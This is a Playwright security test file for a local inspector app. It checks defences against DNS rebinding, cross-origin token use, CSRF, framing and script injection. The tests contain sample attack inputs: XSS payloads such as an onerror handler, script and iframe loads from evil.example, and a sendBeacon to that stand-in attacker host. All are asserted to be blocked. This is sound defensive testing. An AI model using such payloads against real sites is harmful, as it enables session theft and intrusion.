import { createServer, type Server } from 'node:http';
import { chromium, type Page } from '@playwright/test';
import { demoCommand, expect, test } from './bin';
import { Workbench } from './workbench';

/** Serves a page from another port, so from another origin. */
async function foreignSite(html: string): Promise<{ server: Server; url: string }> {
  const server = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html');
    response.end(`<!doctype html><title>foreign</title>${html}`);
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(undefined)));
  const { port } = server.address() as { port: number };
  return { server, url: `http://127.0.0.1:${port}/` };
}

/** Returns the access token of an opened page, which an attacker would want. */
const tokenOf = (page: Page) => page.evaluate(() => Object.values(sessionStorage).find((value) => value.length >= 40));

test('attack: a host name rebound to this machine gets nothing (DNS rebinding)', async ({ start }) => {
  const bin = await start([]);
  const { port } = new URL(bin.link);
  const { executablePath, args } = test.info().project.use.launchOptions!;
  const browser = await chromium.launch({
    executablePath,
    args: [...args!, '--host-resolver-rules=MAP evil.test 127.0.0.1'],
  });
  const page = await browser.newPage();
  for (const path of ['/', '/_next/x.js', '/launch', '/api/servers']) {
    const response = await page.goto(`http://evil.test:${port}${path}`);
    expect(response?.status()).toBe(403);
    expect(await page.content()).not.toContain('<script');
  }
  await browser.close();
});

test('attack: the token is in no address, and other origins get no socket with it', async ({ open, context }) => {
  const { page, bin } = await open(['--', ...demoCommand()]);
  await new Workbench(page).connected();
  const token = (await tokenOf(page))!;
  await test.step('the token is in no address, history, cookie or referrer', async () => {
    const seen = await page.evaluate(() => [
      location.href,
      document.cookie,
      document.referrer,
      JSON.stringify(history.state),
    ]);
    expect(seen.join('\n')).not.toContain(token);
    expect(page.url()).not.toContain('launch=');
    expect(bin.stdout() + bin.stderr()).not.toContain(token);
    expect(await page.context().cookies()).toEqual([]);
  });

  await test.step('a page on another port gets no socket, even with the token', async () => {
    expect(token).toBeTruthy();
    const foreign = await foreignSite('');
    const attacker = await context.newPage();
    await attacker.goto(foreign.url);
    const tries = await attacker.evaluate(
      ({ origin, token }) =>
        Promise.all(
          [origin, origin.replace('127.0.0.1', 'localhost')].map(
            (at) =>
              new Promise((resolve) => {
                const socket = new WebSocket(`${at.replace('http', 'ws')}/ws`, ['mcp-inspect.1', `bearer.${token}`]);
                socket.onopen = () => resolve('open');
                socket.onerror = () => resolve('refused');
              }),
          ),
        ),
      { origin: new URL(bin.link).origin, token },
    );
    expect(tries).toEqual(['refused', 'refused']);
    foreign.server.close();
  });
});

test('attack: other sites start nothing, and a launch link works once', async ({ open, context, browser }) => {
  const { page, bin } = await open([]);
  await expect(page.getByText('Which server do you want to inspect?')).toBeVisible();
  await test.step('forms, no-cors fetches and beacons of another site start nothing', async () => {
    const foreign = await foreignSite('');
    const attacker = await context.newPage();
    await attacker.goto(foreign.url);
    const statuses: number[] = [];
    context.on('response', (response) => {
      // Our own page is open too; ignore its requests.
      if (response.url() === `${new URL(bin.link).origin}/launch`) statuses.push(response.status());
    });
    await attacker.evaluate(async (origin) => {
      const body = JSON.stringify({ code: 'x' });
      await fetch(`${origin}/launch`, { method: 'POST', mode: 'no-cors', body }).catch(() => {});
      navigator.sendBeacon(`${origin}/launch`, body);
      const form = document.createElement('form');
      form.method = 'post';
      form.action = `${origin}/launch`;
      form.enctype = 'text/plain';
      document.body.append(form);
      form.submit();
    }, new URL(bin.link).origin);
    await expect.poll(() => statuses.length).toBeGreaterThan(0);
    expect(statuses.every((status) => status === 403 || status === 415)).toBe(true);
    foreign.server.close();
  });

  await test.step('a launch link works once', async () => {
    // In another browser profile no other tab can share the token.
    const stranger = await (await browser.newContext()).newPage();
    await stranger.goto(bin.link);
    await expect(stranger.getByText(/new link/i).first()).toBeVisible();
    await expect(stranger.getByText('Which server do you want to inspect?')).toHaveCount(0);
    const before = bin.stdout() + bin.stderr();
    await stranger.getByRole('button', { name: /new link/i }).click();
    await expect.poll(() => (bin.stdout() + bin.stderr()).slice(before.length)).toContain('#launch=');
  });
});

test('attack: another site cannot frame our page', async ({ start, page }) => {
  const bin = await start([]);
  const foreign = await foreignSite(`<iframe src="${bin.link}" width="800" height="600"></iframe>`);
  const complaint = page.waitForEvent('console', (message) => /frame-ancestors|refused to frame/i.test(message.text()));
  await page.goto(foreign.url);
  await complaint;
  expect(page.frames().some((frame) => frame.url().startsWith(new URL(bin.link).origin))).toBe(false);
  foreign.server.close();
});

test('attack: the page sends requests only to mcp-inspect, and injected code is blocked', async ({ open }) => {
  const { page, bin } = await open(['--', ...demoCommand()]);
  const bench = new Workbench(page);
  await test.step('the page sends requests only to mcp-inspect, whatever a server returns', async () => {
    const { origin } = new URL(bin.link);
    const outside: string[] = [];
    page.on('request', (request) => {
      const url = request.url();
      if (!url.startsWith(origin) && !url.startsWith('data:') && !url.startsWith('blob:')) outside.push(url);
    });
    const violations: string[] = [];
    page.on('console', (message) => {
      if (/Content.Security.Policy|Trusted ?Type/i.test(message.text())) violations.push(message.text());
    });
    await bench.connected();
    for (const panel of ['Tools', 'Resources', 'Prompts', 'Inbox', 'Server', 'New message']) await bench.panel(panel);
    await bench.tool('send_postcard');
    await bench.call();
    await expect(bench.result.getByRole('status')).toContainText(/ok/i);
    expect(outside).toEqual([]);
    expect(violations).toEqual([]);
  });

  await test.step('scripts, handlers, eval, frames and beacons of injected code are blocked by the page’s policy', async () => {
    await page.evaluate(() => {
      const seen = { errors: [] as string[], blocked: [] as string[] };
      Object.assign(globalThis, { seen });
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        seen.blocked.push(effectiveDirective);
      });
      const run = 'globalThis.ran = true';
      const add = <K extends 'script' | 'iframe' | 'img'>(name: K, attributes: Record<string, string>, text = '') => {
        const element = document.createElement(name);
        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
        element.append(text);
        document.body.append(element);
      };
      const attempts = [
        () => document.body.insertAdjacentHTML('beforeend', `<img src="x:" onerror="${run}">`),
        () => document.body.setAttribute('onclick', run),
        () => add('script', {}, run),
        () => add('script', { src: 'https://evil.example/x.js' }),
        () => Reflect.construct(Function, [run])(),
        () => add('iframe', { src: 'https://evil.example/' }),
        () => add('iframe', { srcdoc: `<script>parent.ran = true</script>` }),
        () => add('img', { src: 'https://evil.example/x.png' }),
        () => navigator.sendBeacon('https://evil.example/', 'x'),
      ];
      // The policy does not apply to code that a test evaluates, only to code that it schedules.
      for (const attempt of attempts) {
        setTimeout(() => {
          try {
            attempt();
          } catch (error) {
            seen.errors.push((error as Error).name);
          }
        });
      }
    });
    const seen = () =>
      page.evaluate(() => (globalThis as unknown as { seen: { errors: string[]; blocked: string[] } }).seen);
    await expect
      .poll(async () => (await seen()).blocked.toSorted())
      .toEqual(['connect-src', 'frame-src', 'img-src', ...Array(5).fill('require-trusted-types-for')]);
    expect((await seen()).errors).toEqual(['TypeError', 'TypeError', 'TypeError', 'EvalError', 'TypeError']);
    expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false);
  });
});
